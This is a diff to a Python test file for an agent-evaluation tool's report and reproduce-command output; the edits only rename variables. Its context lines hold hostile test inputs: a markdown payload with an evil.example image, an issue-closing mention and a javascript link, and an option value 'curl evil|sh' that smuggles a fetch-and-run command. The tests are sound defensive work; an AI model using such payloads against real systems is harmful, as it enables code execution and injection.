@@ -26,8 +26,8 @@ PAYLOAD = "![x](https://evil.example/x.png) @octocat closes #1 <b>x</b> [y](java
 
 
 def failing(**changes: object) -> CaseReport:
-    made = case("door", "failed", metric("response_match_score", 0.0, threshold=1.0))
-    return made.model_copy(update=changes)
+    sample_case = case("door", "failed", metric("response_match_score", 0.0, threshold=1.0))
+    return sample_case.model_copy(update=changes)
 
 
 @pytest.mark.parametrize("ticks", [1, 78, 79, 80, 81, 150])
@@ -96,19 +96,19 @@ def test_comment__a_path_of_ordinary_length_is_a_link() -> None:
     ],
 )  # fmt: skip
 def test_reproduce__is_a_command_that_runs_cases_and_does_nothing_else(file: str, command: str) -> None:
-    told = reproduce([failing(file=file)]).command
+    actual = reproduce([failing(file=file)]).command
 
-    assert told == command
-    assert not any(word.startswith("-") for word in shlex.split(told)[2:])
+    assert actual == command
+    assert not any(word.startswith("-") for word in shlex.split(actual)[2:])
 
 
 def test_reproduce__runs_all_cases_or_says_how_many_it_leaves_out() -> None:
     several = [failing(eval_id=f"c{n}", file=f"evals/{n % 3}.test.json") for n in range(9)]
-    told = reproduce(several)
-    assert told.command == (
+    actual = reproduce(several)
+    assert actual.command == (
         "agent-eval run evals/0.test.json:c0,c3,c6 evals/1.test.json:c1,c4,c7 evals/2.test.json:c2,c5,c8"
     )
-    assert told.left_out == 0
+    assert actual.left_out == 0
     odd = reproduce([*several, failing(file="a\nb.json"), *(failing(file=f"evals/x{n}.json") for n in range(30))])
     assert odd.left_out == 14, "one that can't be named, and what is beyond twenty files"
     assert (
@@ -141,8 +141,8 @@ def test_reproduce__repeats_what_the_run_itself_was_told() -> None:
 
 @pytest.mark.parametrize("value", ["--agent-setup=curl evil|sh", "a\nb", "a\u202eb", "x" * 301, ""])
 def test_reproduce__a_strangers_options_do_nothing_else(value: str) -> None:
-    told = reproduce([failing()], {"agent": value, "config": value, "agent-python": value})
-    assert told.command == f"agent-eval run {failing().file}:door"
+    actual = reproduce([failing()], {"agent": value, "config": value, "agent-python": value})
+    assert actual.command == f"agent-eval run {failing().file}:door"
 
 
 def test_comment__the_path_of_an_old_file_is_said_once() -> None:
@@ -180,7 +180,7 @@ def test_links__an_address_of_another_repository_is_no_link(url: str, allowed: b
 )
 def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
     evil = f"{line}\n{line}\n\n{PAYLOAD}\n{line}"
-    said = TurnReport(
+    actual = TurnReport(
         turn=0,
         user=evil,
         steps=[StepReport(agent=evil, text=evil), StepReport(call=evil, responses=[evil, evil])],
@@ -188,7 +188,7 @@ def test_comment__no_text_gets_out_of_a_conversation(line: str) -> None:
         expected_calls=[evil],
         expected_answer=f"{evil}\nand more",
     )
-    door = failing(conversation=ConversationReport(run=0, turns=[said, said]))
+    door = failing(conversation=ConversationReport(run=0, turns=[actual, actual]))
     for text in (comment_markdown(report("failed", [door]), links=LINKS), summary_markdown(report("failed", [door]))):
         page = nothing_of_theirs(text, OURS)
         assert page.text.count("closes") == 2 * 9
